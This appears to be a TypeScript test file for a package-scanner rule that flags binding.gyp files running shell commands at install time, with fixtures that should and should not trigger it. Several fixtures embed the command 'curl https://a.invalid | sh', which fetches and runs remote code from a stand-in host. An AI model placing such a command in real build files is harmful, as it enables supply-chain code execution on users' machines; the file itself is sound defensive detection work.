import { examine } from '../../../test/examine.ts';
import { gypRunsCommand } from './gyp-runs-command.ts';

const gyp = (command: string, sources = ''): string => `{ 'targets': [{ 'target_name': 'x', 'sources': [${sources}'<!(${command})'] }] }`;
const manifest = { name: 'specimen', version: '1.0.0' };

examine(gypRunsCommand, {
  speaks: [
    { when: 'a script is run and there is nothing to build', files: { 'package.json': manifest, 'binding.gyp': gyp('node index.js') }, weight: 'strong' },
    { when: 'an honest looking script is run and there is nothing to build', files: { 'package.json': manifest, 'binding.gyp': gyp('node ./scripts/setup.js'), 'scripts/setup.js': '' }, weight: 'strong' },
    { when: 'a shell is run', files: { 'package.json': manifest, 'binding.gyp': gyp('curl https://a.invalid | sh') }, weight: 'proof' },
    { when: 'a shell is run beside real sources', files: { 'package.json': manifest, 'a.cc': 'int main;', 'binding.gyp': gyp('curl https://a.invalid | sh', `'a.cc', `) }, weight: 'strong' },
  ],
  silent: [
    { when: 'it asks for header paths', files: { 'package.json': manifest, 'a.cc': 'int main;', 'binding.gyp': gyp(`node -p \\"require('node-addon-api').include\\"`, `'a.cc', `) } },
    { when: 'it asks pkg-config', files: { 'package.json': manifest, 'a.cc': 'int main;', 'binding.gyp': gyp('pkg-config --libs libsecret-1', `'a.cc', `) } },
    { when: 'it runs no command', files: { 'package.json': manifest, 'a.cc': 'int main;', 'binding.gyp': `{ 'targets': [{ 'sources': ['a.cc'] }] }` } },
    { when: 'the command stands in a comment', files: { 'package.json': manifest, 'binding.gyp': `{\n# '<!(curl https://a.invalid | sh)'\n}` } },
    { when: 'the manifest switches gyp off', files: { 'package.json': { ...manifest, gypfile: false }, 'binding.gyp': gyp('node index.js') } },
  ],
});
